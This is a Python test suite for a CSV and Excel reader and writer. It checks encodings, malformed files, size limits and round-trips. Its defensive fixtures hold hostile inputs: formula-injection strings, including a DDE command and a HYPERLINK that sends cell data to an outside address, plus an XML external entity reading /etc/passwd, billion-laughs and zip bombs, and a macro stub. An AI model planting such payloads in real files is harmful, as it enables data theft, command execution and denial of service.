"""Tables in and out: what any program writes is read, what we write comes back the same, and nothing runs or explodes."""

import csv
import io
import struct
import time
import zipfile
from contextlib import suppress
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from livewell.kit import sheets
from livewell.kit.sheets import SheetRefused, csv_lines, read_sheet, write_csv, write_xlsx

NAMES = ["Name", "Phone"]
TABLE = [{"Name": "Café Bramble", "Phone": "01632 960001"}, {"Name": "Rowan’s shed", "Phone": ""}]
TEXT = "Name,Phone\r\nCafé Bramble,01632 960001\r\nRowan’s shed,\r\n"


def rows(data, name="table.csv"):
    return list(read_sheet(data, name).rows)


def refused(data, name="table.csv"):
    with pytest.raises(SheetRefused) as error:
        read_sheet(data, name)
    return str(error.value)


def xlsx(*lines, change=lambda book: None):
    book = Workbook()
    for line in lines:
        book.active.append(line)
    change(book)
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def repacked(data, change=None, *, packing=zipfile.ZIP_DEFLATED, more=()):
    """The same file with some of its parts changed, or others added."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(written, "w", packing) as new:
        for name in old.namelist():
            part = old.read(name)
            new.writestr(name, change(name, part) if change else part)
        for name, part in more:
            new.writestr(name, part)
    return written.getvalue()


def with_sheet(data, inner):
    """The same Excel file with other rows in its sheet."""
    body = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
    return repacked(data, lambda name, part: body % inner if name.startswith("xl/worksheets/sheet") else part)


# CSV in.


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"])
def test_csv_as_any_program_writes_it(encoding, separator, ending):
    text = TEXT.replace(",", separator).replace("\r\n", ending)
    assert rows(text.encode(encoding)) == TABLE


@pytest.mark.parametrize(
    ("text", "table"),
    [
        ('Name,Words\na,"one\ntwo, ""three"""\n', [{"Name": "a", "Words": 'one\ntwo, "three"'}]),
        ('"Name, and; more",Words\na,b\n', [{"Name, and; more": "a", "Words": "b"}]),
        ("sep=;\r\nName;Words\r\na;b\r\n", [{"Name": "a", "Words": "b"}]),
        ("Name\nHill; Rowan\n", [{"Name": "Hill; Rowan"}]),
        ("\n\nName,Words\n\n,\na,b\n\n", [{"Name": "a", "Words": "b"}]),
        ("Name,Words,,\na,b,,\n", [{"Name": "a", "Words": "b"}]),
        ("Name,,Words\na,,b\n", [{"Name": "a", "Words": "b"}]),
        (" Name  of\tit ,Words\na\n", [{"Name of it": "a", "Words": ""}]),
        ("Name,Words\n", []),
        ("Name,Words\n 5' 3\", 'quoted' \n", [{"Name": " 5' 3\"", "Words": " 'quoted' "}]),
        ("Name,Words\n'=1+1,'tis\n", [{"Name": "=1+1", "Words": "'tis"}]),
    ],
)
def test_csv_of_every_shape(text, table):
    assert rows(text.encode()) == table


def test_a_row_is_known_by_the_number_beside_it_in_a_spreadsheet():
    sheet = read_sheet(b'Name,Words\na,"one\ntwo"\n\n,\nb,three\n', "x.csv")
    assert (sheet.columns, sheet.lines) == (("Name", "Words"), (2, 5))
    assert read_sheet(xlsx(["Name"], ["a"], [None], ["b"]), "x.xlsx").lines == (2, 4)


# Excel in.


def test_cells_come_as_somebody_would_type_them():
    day, moment = date(2026, 11, 21), datetime(2026, 11, 21, 14, 30)  # noqa: DTZ001  Excel has no zones.
    data = xlsx(
        ["day", "moment", "whole", "part", "phone", "yes", "text", "none", "fault", "long"],
        [day, moment, 7.0, 2.5, 7700900123, True, "  words\nin two lines ", None, "#REF!", 1e300],
    )
    (row,) = rows(data, "x.xlsx")
    assert row == {
        "day": "2026-11-21",
        "moment": "2026-11-21 14:30",
        "whole": "7",
        "part": "2.5",
        "phone": "7700900123",
        "yes": "TRUE",
        "text": "  words\nin two lines ",
        "none": "",
        "fault": "#REF!",
        "long": "1e+300",
    }


def test_of_a_formula_the_last_result_is_taken_and_nothing_is_worked_out():
    data = with_sheet(
        xlsx(["x"]),
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>Sum</t></is></c><c r="B1" t="inlineStr"><is><t>Web</t></is></c></row>'
        b'<row r="2"><c r="A2"><f>1+1</f><v>3</v></c><c r="B2" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f></c></row>',
    )
    assert rows(data, "x.xlsx") == [{"Sum": "3", "Web": ""}]


def test_the_first_sheet_in_sight_is_read():
    def hide(book):
        book.create_sheet("Second").append(["Name"])
        book["Second"].append(["Rowan"])
        book.worksheets[0].sheet_state = "hidden"

    assert rows(xlsx(["Secret"], ["x"], change=hide), "x.xlsx") == [{"Name": "Rowan"}]


def test_a_wrong_word_about_its_own_size_is_not_believed():
    data = xlsx(["a", "b"], ["1", "2"], ["3", "4"])
    lies = repacked(data, lambda _, part: part.replace(b'<dimension ref="A1:B3"', b'<dimension ref="A1:A1"'))
    assert lies != data
    assert rows(lies, "x.xlsx") == [{"a": "1", "b": "2"}, {"a": "3", "b": "4"}]


# Refused.


def test_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(sheets, "MOST_ROWS", 3)
    monkeypatch.setattr(sheets, "MOST_COLUMNS", 4)
    assert len(rows(b"a\n1\n2\n3\n")) == 3
    assert "more than 3 rows" in refused(b"a\n1\n2\n3\n4\n")
    assert "more than 3 rows" in refused(xlsx(["a"], [1], [2], [None], [None], [None], [3], [4]), "x.xlsx")
    assert "more than 4 columns" in refused(b"a,b,c,d,e\n")
    assert "more than 4 columns" in refused(xlsx(list("abcdefgh")), "x.xlsx")
    monkeypatch.setattr(sheets, "LONGEST_CELL", 5)
    assert "more than 5 characters" in refused(b"a\n123456\n")
    monkeypatch.setattr(sheets, "MOST_TEXT", 10)
    assert "too much text" in refused(b"a\n12345\n12345\n")
    monkeypatch.setattr(sheets, "LARGEST_FILE", 10)
    assert "too big" in refused(b"a\n123456789\n")


GOOD = xlsx(["Name"], ["Rowan"])


@pytest.mark.parametrize(
    ("data", "name", "says"),
    [
        (b"", "x.csv", "empty"),
        (b" \r\n\t ", "x.csv", "empty"),
        (b",,,\n,,\n", "x.csv", "empty"),
        (xlsx(), "x.xlsx", "empty"),
        (b'Name\n"never closed\n', "x.csv", "quotation mark"),
        (b'Name\n"a"b\n', "x.csv", "Line 2"),
        (b"Name\n" + b"x" * 140_000, "x.csv", "far too long"),
        (b"a,A\n1,2\n", "x.csv", "Two columns are called “A”"),
        (b"a\n1,2\n", "x.csv", "Row 2 has something in a column that has no name"),
        (b"a,,b\n1,2,3\n", "x.csv", "Row 2 has something in a column that has no name"),
        (bytes(range(256)) * 4, "x.csv", "not a table"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "x.xls", "old kind"),
        (b"%PDF-1.7", "x.csv", "not a table"),
        (b"Name\nRowan\n", "x.xlsx", "something else"),
        (b"PK\x03\x04 and then nothing", "x.xlsx", "damaged"),
        (GOOD[: len(GOOD) // 2], "x.xlsx", "damaged"),
        (repacked(GOOD, more=[("xl/vbaProject.bin", b"Sub AutoOpen()")]), "x.xlsm", "macros"),
        (repacked(GOOD, packing=zipfile.ZIP_LZMA), "x.xlsx", "damaged"),
        (repacked(GOOD, packing=zipfile.ZIP_BZIP2), "x.xlsx", "damaged"),
        (repacked(GOOD, more=[(f"x/{n}.xml", b"") for n in range(501)]), "x.xlsx", "too big"),
        (repacked(GOOD, lambda _, part: part.replace(b"worksheetml", b"<<<")), "x.xlsx", ""),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_cannot_be_read_is_refused_in_a_sentence(data, name, says):
    if says:
        assert says in refused(data, name)


def test_an_opendocument_file_and_any_other_zip_are_refused():
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    assert "OpenDocument" in refused(written.getvalue(), "x.ods")
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as packed:
        packed.writestr("readme.txt", "hello")
    assert "not an Excel spreadsheet" in refused(other.getvalue(), "x.zip")


def test_a_password_is_asked_to_be_taken_off():
    data = bytearray(GOOD)
    at = data.index(b"PK\x01\x02")
    while at != -1:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    assert "password" in refused(bytes(data), "x.xlsx")


# Bombs.


def _saying(declared, cell):
    """An Excel file whose sheet declares something and then names it in a cell."""
    sheet = with_sheet(GOOD, b'<row><c t="inlineStr"><is><t>%s</t></is></c></row>' % cell)
    head = b'<?xml version="1.0"?><!DOCTYPE x [%s]>' % declared
    return repacked(sheet, lambda name, part: head + part if name.startswith("xl/worksheets/sheet") else part)


def _laughs():
    more = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _saying(b'<!ENTITY l0 "ha">' + more.encode(), b"&l9;")


def _outside():
    return _saying(b'<!ENTITY e SYSTEM "file:///etc/passwd">', b"&e;")


def _overlapping():
    """A directory that names one packed megabyte of nothing a hundred times."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", bytes(1_000_000))
    data = written.getvalue()
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry = data[start:end]
    named = b"".join(entry.replace(b"[Content_Types].xml", f"[Content_Ty{n:03}].xml".encode()) for n in range(100))
    return (
        data[:start]
        + entry
        + named
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 101, 101, len(entry + named), start, 0)
    )


@pytest.mark.parametrize(
    ("bomb", "says"),
    [
        (lambda: repacked(GOOD, more=[("xl/media/nothing.bin", bytes(300_000_000))]), "too big"),
        (lambda: with_sheet(GOOD, b"<row/>" * 5_000_000), "too big"),
        (lambda: with_sheet(GOOD, b"<row>" + b"<c/>" * 1_000_000 + b"</row>"), "too big"),
        (lambda: with_sheet(GOOD, b'<x:row xmlns:x="a">' + b"<x:c/>" * 1_000_000 + b"</x:row>"), "too big"),
        (_laughs, "damaged"),
        (_outside, "damaged"),
        (_overlapping, "too big"),
    ],
    ids=["zip", "rows", "one row", "one row by another name", "a billion laughs", "a file of ours", "overlapping"],
)
def test_a_bomb_is_refused_before_it_goes_off(bomb, says):
    data = bomb()
    assert len(data) < sheets.LARGEST_FILE
    begun = time.process_time()
    assert says in refused(data, "x.xlsx")
    assert time.process_time() - begun < 20


@pytest.mark.parametrize("row", [2, 1_048_576, 1_048_577, 10**12])
def test_a_row_that_says_it_is_far_away_takes_no_longer(row):
    inner = b'<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row><row r="%d"><c t="inlineStr"><is><t>x</t></is></c></row>'
    begun = time.process_time()
    assert rows(with_sheet(GOOD, inner % row), "x.xlsx") == ([{"Name": "x"}] if row <= 1_048_576 else [])
    assert time.process_time() - begun < 20


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=300),
    st.sampled_from([b"", b"PK\x03\x04", b"\xff\xfe", b"Name,Words\n"]),
    st.sampled_from(["x.csv", "x.xlsx", ""]),
)
def test_noise_is_read_or_refused_and_nothing_else(noise, start, name):
    with suppress(SheetRefused):
        read_sheet(start + noise, name)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 100_000), st.integers(0, 255)), min_size=1, max_size=8))
def test_an_excel_file_with_a_few_wrong_bytes_is_read_or_refused(wrong):
    data = bytearray(GOOD)
    for place, byte in wrong:
        data[place % len(data)] = byte
    with suppress(SheetRefused):
        read_sheet(bytes(data), "x.xlsx")


# Out, and back again.

HOSTILE = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Click")',
    "=1+1",
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "＝1",
    "'=1",
    "''=1",
    "+44-1632-960001",
]
HARMLESS = ["+44 1632 960001", "+447700900123", "-5", "-1,234.50", "+3%", "a=b", "'tis", "", "O'Hill", "1-2", "it's -1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_csv_begins_a_formula(text):
    data = write_csv([text], [[text]])
    for (cell,) in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        assert cell == f"'{text}"
    assert rows(write_csv(["What"], [[text]])) == [{"What": text}]


@pytest.mark.parametrize("text", HARMLESS)
def test_words_and_numbers_are_left_as_they_are(text):
    data = write_csv(["What", "More"], [[text, "x"]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1] == [text, "x"]
    assert rows(data) == [{"What": text, "More": "x"}]


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS, "#N/A", "_x000D_", "a_x0041_b"])
def test_every_text_in_an_excel_file_is_a_text(text):
    data = write_xlsx(["What", "More"], [[text, "x"]], "Things")
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert text == "" or cell.data_type == "s"
    assert b"<f" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert rows(data, "x.xlsx") == [{"What": text.replace("\r", "\n"), "More": "x"}]


def test_numbers_are_numbers_and_nothing_is_nothing():
    table = [[-3, 2.5, None, "x"]]
    assert write_csv(list("abcd"), table) == b'\xef\xbb\xbf"a","b","c","d"\r\n-3,2.5,,x\r\n'
    line = load_workbook(io.BytesIO(write_xlsx(list("abcd"), table, "x")))["x"][2]
    assert [cell.value for cell in line] == [-3, 2.5, None, "x"]
    assert [cell.data_type for cell in line] == ["n", "n", "n", "s"]


@pytest.mark.parametrize(
    ("title", "kept"),
    [("Things: all/some [1]", "Things  all some  1"), ("'" * 3, "Sheet"), ("", "Sheet"), ("x" * 50, "x" * 31)],
)
def test_a_title_is_made_to_fit(title, kept):
    assert load_workbook(io.BytesIO(write_xlsx(["a"], [], title))).sheetnames == [kept]


def test_a_text_longer_than_excel_holds_says_so():
    (row,) = rows(write_xlsx(["a"], [["x" * 40_000]], "x"), "x.xlsx")
    assert row["a"] == "x" * 32_766 + "…"


def test_lines_come_one_by_one():
    asked = []

    def one_by_one():
        for number in range(3):
            asked.append(number)
            yield [number]

    lines = csv_lines(["n"], one_by_one())
    assert next(lines).startswith(b"\xef\xbb\xbf")
    assert asked == []
    assert next(lines) == b"0\r\n"
    assert asked == [0]


words = st.text(st.characters(exclude_categories=["Cs"]), max_size=30) | st.sampled_from(HOSTILE + HARMLESS)
tables = st.integers(1, 4).flatmap(lambda wide: st.lists(st.lists(words, min_size=wide, max_size=wide), max_size=5))


@settings(max_examples=300, deadline=None)
@given(tables)
def test_what_we_write_as_csv_comes_back_the_same(table):
    names = [f"Column; {n}, of\tit" for n in range(len(table[0]) if table else 1)]
    back = read_sheet(write_csv(names, table), "x.csv")
    same = [[cell.replace("\x00", "") for cell in row] for row in table]
    assert [list(row.values()) for row in back.rows] == [row for row in same if any(row)]


def as_xml(text):
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(one for one in text if one in "\t\n" or (one >= " " and one not in "\ufffe\uffff"))


@settings(max_examples=200, deadline=None)
@given(tables)
def test_what_we_write_as_excel_comes_back_the_same(table):
    names = [f"Column {n}" for n in range(len(table[0]) if table else 1)]
    back = read_sheet(write_xlsx(names, table, "Things"), "x.xlsx")
    same = [[as_xml(cell) for cell in row] for row in table]
    assert [list(row.values()) for row in back.rows] == [row for row in same if any(row)]


def names_and_words(cells):
    return {"Name", "Words"} <= set(cells)


@pytest.mark.parametrize(
    ("text", "above", "lines"),
    [
        ("Name,Words\na,b\n", (), (2,)),
        ("\n\nName,Words\na,b\n", (), (4,)),
        ("sep=;\nName;Words\na;b\n", (), (3,)),
        ("Groups in our villages,\nName,Words\na,b\n", (1,), (3,)),
        ("Groups, clubs and cafés\n\nas of May;\nName;Words\na;b\n\nc;d\n", (1, 3), (5, 7)),
        ("Groups\tof\tall\tkinds\nName\tWords\na\tb\n", (1,), (3,)),
    ],
)
def test_a_title_may_stand_above_the_names_of_the_columns(text, above, lines):
    found = read_sheet(text.encode(), "list.csv", names=names_and_words)
    assert (found.columns, found.above, found.lines) == (("Name", "Words"), above, lines)
    assert found.rows[0] == {"Name": "a", "Words": "b"}


def test_a_title_above_names_that_are_none_of_ours_is_named_with_its_row():
    with pytest.raises(SheetRefused, match="Row 2 says only “Groups”, and none of the first 20 rows"):
        read_sheet(b"\nGroups,\nTitle,Town\na,b\n", "list.csv", names=names_and_words)
    found = read_sheet(b"Title,Town\na,b\n", "list.csv", names=names_and_words)
    assert found.columns == ("Title", "Town")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("text", ["Name,Words\nCafé,Łódź – “tea”\n", "Name\n", "Name,Words\nদল,খেলা\n"])
def test_utf_16_is_known_without_a_mark(encoding, text):
    assert rows(text.encode(encoding)) == rows(text.encode())


@pytest.mark.parametrize("data", [b"Na\x00me,Words\na,b\n", b"N\x00a\x00m\x00e\x00,", b"\x00" * 40])
def test_other_zeros_are_no_table(data):
    with pytest.raises(SheetRefused, match="not a table"):
        rows(data)
